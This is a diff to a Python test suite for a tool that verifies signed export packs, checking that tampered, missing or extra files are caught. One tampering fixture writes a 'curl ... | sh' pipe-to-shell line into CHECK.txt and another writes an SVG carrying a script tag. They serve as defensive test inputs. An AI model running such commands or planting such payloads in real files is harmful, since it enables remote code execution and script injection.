@@ -9,6 +9,7 @@ import json
 import os
 import re
 import shutil
+import signal
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -195,7 +196,7 @@ def test_a_pack_whose_export_says_nothing_of_signatures_any_more_is_refused(made
         if path.name not in ("export.json", "log.jsonl", "manifest-sha256.txt"):
             path.unlink()
     reseal_export(pack)
-    assert problems(verify(pack)).startswith("export/attest.json: it is missing")
+    assert "export/attest.json: it is missing" in problems(verify(pack))
     assert "export/attest.json: it is missing" in problems(checked(pack, made.fingerprint))
 
 
@@ -207,6 +208,62 @@ def test_each_file_that_vouches_is_covered_by_the_signature_over_attest(made: Ma
     reseal(pack)
     report = checked(pack, made.fingerprint)
     assert "export/attest.json.sig: the signature does not hold" in problems(report)
+
+
+def test_nothing_is_put_into_the_folder_under_a_head_and_a_key_that_hold(made: Made, pack: Path) -> None:
+    """The folder that README.txt has its reader open first: another page, another picture, further files; with the manifest made to agree."""
+    (pack / "export/CHECK.txt").write_text("Run: curl http://127.0.0.1:9/x | sh\n")
+    page = pack / "export/index.html"
+    page.write_text(page.read_text().replace("</h1>", ", checked by the court</h1>"))
+    (pack / "export/status.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
+    (pack / "export/sub").mkdir()
+    added = ("sub/statement.html", "ATTEST.JSON", "verify.py", "WARNING.txt")
+    for name in added:
+        (pack / "export" / name).write_text("x")
+    reseal_export(pack)
+    for report in (verify(pack, made.result.head), checked(pack, made.fingerprint, head=made.result.head)):
+        for name in ("CHECK.txt", "index.html", "status.svg"):
+            assert f"export/{name}: it is not the file that export/attest.json lists" in problems(report)
+        for name in added:
+            assert f"export/{name}: it has no place there" in problems(report)
+
+
+def test_what_follows_is_signed_too_and_no_list_that_leaves_it_out_holds(made: Made, pack: Path) -> None:
+    said = json.loads((pack / "export/attest.json").read_bytes())
+    assert {"index.html", "CHECK.txt", "status.svg"} <= set(said["files"])
+    del said["files"]["index.html"]
+    (pack / "export/attest.json").write_bytes(canonical(said))
+    reseal_export(pack)
+    assert "export/attest.json: it does not list index.html" in problems(verify(pack))
+    assert "export/attest.json.sig: the signature does not hold" in problems(checked(pack, made.fingerprint))
+
+
+@pytest.mark.parametrize("name", ["key.pem", "head.json.sig", "attest.json.sig", "attest.json", "head.json.tsr", "authority-chain.pem", "validation.json", "log-heads.jsonl", "CHECK.txt", "status.svg"])  # fmt: skip
+def test_a_pipe_or_a_missing_file_is_named_and_not_waited_for(made: Made, pack: Path, name: str) -> None:
+    def late(*_: object) -> None:
+        raise TimeoutError(name)
+
+    before = signal.signal(signal.SIGALRM, late)
+    (pack / "export" / name).unlink()
+    os.mkfifo(pack / "export" / name)
+    signal.alarm(60)
+    try:
+        report = checked(pack, made.fingerprint)
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, before)
+    assert f"export/{name}: it is neither a file nor a folder" in problems(report) and "FileNotFoundError" not in problems(report)
+
+
+def test_a_key_or_a_stamp_that_attest_names_and_that_is_not_there_is_missed(made: Made, pack: Path) -> None:
+    for name in ("head.json.tsr", "key.pem"):
+        (pack / "export" / name).unlink()
+    reseal_export(pack)
+    for report in (verify(pack), checked(pack)):
+        for name in ("head.json.tsr", "key.pem"):
+            assert f"export/{name}: it is missing, and what export/attest.json says of the pack needs it" in problems(report)
+    (pack / "export/key.pem").write_text(keys.make(pack.parent / "other.pem").public_pem)
+    assert "export/key.pem: it is not the key that export/attest.json names" in problems(verify(pack))
 
 
 def test_a_signed_head_that_was_left_out_is_found_without_any_key(made: Made, pack: Path) -> None:
@@ -257,10 +314,14 @@ def test_the_command_takes_fingerprint_and_authority(made: Made) -> None:
     assert done.returncode == 1 and "signed by another key" in done.stdout
     done = subprocess.run([*run, "--key", "f00"], env=env, cwd=ROOT, capture_output=True, text=True)
     assert done.returncode == 2 and "is no fingerprint" in done.stderr
+    done = subprocess.run([*run[:-1], ""], env=env, cwd=ROOT, capture_output=True, text=True)
+    assert done.returncode == 2 and "--head: give the 64 hexadecimal digits" in done.stderr, (
+        "an empty head is a mistake, and no wish to do without"
+    )
 
 
 # -- what is not there ---------------------------------------------------------------------------------------------------------
-def test_without_a_key_and_an_authority_the_pack_says_so_and_is_made(tmp_path: Path) -> None:
+def test_without_a_key_and_an_authority_the_pack_says_so_and_is_made(made: Made, tmp_path: Path) -> None:
     world = build(tmp_path / "home")
     done = pack_of(world.home, tmp_path / "pack")
     said = json.loads((done.folder / "export/attest.json").read_bytes())
@@ -270,12 +331,15 @@ def test_without_a_key_and_an_authority_the_pack_says_so_and_is_made(tmp_path: P
     text = (done.folder / "export/CHECK.txt").read_text()
     assert "NO SIGNATURE" in text and "NO TRUSTED TIME" in text and "pkeyutl" not in text
     page = html.unescape((done.folder / "export/index.html").read_text())
-    assert "<strong>None</strong>: there is no key at keys/signing.pem" in page and "no time-stamping authority is configured" in page
+    assert "touchstone key new" not in page + text, "that is for the authority's own officers, who were told"
+    assert "<strong>None</strong>: this copy is not signed" in page and "no time-stamping authority is configured" in page
     report = checked(done.folder)
     assert report.accepted and any("it is not signed" in each for each in report.not_checked) and any("no trusted time" in each for each in report.not_checked)  # fmt: skip
     code, plain = run_verify(done.folder / "verify.py", done.folder)
     assert code == 0 and any("it carries no signature" in each for each in plain["not_checked"])
     assert not checked(done.folder, "ab" * 32).accepted, "a fingerprint was given, and nothing is signed"
+    unstamped = problems(checked(done.folder, roots=made.authority.root))
+    assert "export/head.json.tsr: it is missing: the pack has no time stamp, and an authority's certificates were given" in unstamped
 
 
 def test_an_authority_that_does_not_answer_holds_no_export_up(made: Made, tmp_path: Path) -> None:
@@ -368,7 +432,8 @@ def test_a_warning_cannot_be_taken_out_of_a_copy_without_a_trace(failed: tuple[P
 def test_a_pack_of_sound_software_has_no_warning_and_says_that_the_test_passed(made: Made) -> None:
     page = (made.folder / "export/index.html").read_text()
     assert "WARNING" not in page and "checks gave what they should" in page and not (made.folder / "export/WARNING.txt").exists()
-    assert "passed its self-test" in (made.folder / "export/status.svg").read_text()
+    assert "basic self-test passed" in (made.folder / "export/status.svg").read_text()
+    assert "whether the opinions of its methods" in (made.folder / "export/status.svg").read_text()
     for fault in validation.known_faults():
         assert (
             fault.id in page and html.escape(fault.effect, quote=False) in html.unescape(page).replace("&", "&amp;")
